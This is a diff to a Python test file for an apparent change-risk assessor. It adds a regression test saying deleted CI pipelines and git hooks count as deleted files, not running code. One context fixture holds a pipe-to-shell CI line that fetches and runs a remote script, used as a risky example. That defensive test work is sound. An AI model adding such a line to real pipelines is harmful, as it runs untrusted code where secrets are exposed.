@@ -52,7 +52,7 @@ EXAMPLES: dict[str, tuple[FileChange, FileChange, RiskContext]] = {
     ),
     "secret_path": (fc("config/.env.production"), fc(".env.example"), NO_CTX),
     "auth_path": (fc("src/middleware/authMiddleware.ts"), fc("examples/auth/server.py"), NO_CTX),
-    "ci_config": (fc(".github/workflows/release.yml"), fc("docs/workflows.md"), NO_CTX),
+    "ci_config": (fc(".github/workflows/release.yml"), fc(".travis.yml", kind="deleted", deletions=9), NO_CTX),
     "ci_versions": (
         fc(".travis.yml", additions=1, deletions=1, added_lines=['  - "16"'], removed_lines=['  - "6"']),
         fc(".travis.yml", additions=1, deletions=1, added_lines=["  - curl -s https://example.com/x.sh | sh"], removed_lines=['  - "6"']),
@@ -627,6 +627,15 @@ def test_a_dependency_moved_between_manifests_is_not_new() -> None:
 def test_a_dependency_moved_with_another_spelling_is_not_new() -> None:
     out = assess_all([fc("setup.cfg", removed_lines=["    typing_extensions>=4"]), fc("pyproject.toml", added_lines=['    "typing-extensions>=4",'])], NO_CTX)
     assert all("adds a dependency" not in r for c in out for r in c.reasons)
+
+
+def test_a_deleted_pipeline_or_hook_is_a_deleted_file_not_code_that_runs() -> None:
+    # Regression: minimatch 281de34 (a control) deleted .travis.yml and it came out high with
+    # "runs with repository secrets"; a deleted pipeline runs nothing.
+    for path in (".travis.yml", ".github/workflows/ci.yml", ".husky/pre-commit"):
+        out = assess(fc(path, kind="deleted", deletions=9), NO_CTX)
+        assert out.risk == "medium" and out.reasons[0].startswith("deletes a file"), out.reasons
+    assert assess(fc("docs/workflows.md"), NO_CTX).risk == "low"
 
 
 def test_changelog_folder_is_not_a_migration() -> None:
